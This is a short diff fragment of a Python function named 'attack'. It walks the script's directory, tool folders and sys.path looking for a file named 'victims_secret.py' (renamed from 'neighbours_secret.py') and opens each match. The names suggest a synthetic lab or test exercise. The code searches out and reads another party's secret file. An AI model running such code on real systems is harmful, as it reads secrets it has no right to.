@@ -9,7 +9,7 @@ def attack(target):
     found = []
     for directory in dict.fromkeys([beside, "/tools", "/tools/python", "/tools/node", *sys.path]):
         for path, _, names in os.walk(directory):
-            found += [os.path.join(path, name) for name in names if name == "neighbours_secret.py"]
+            found += [os.path.join(path, name) for name in names if name == "victims_secret.py"]
     for path in found:
         try:
             with open(path) as file:
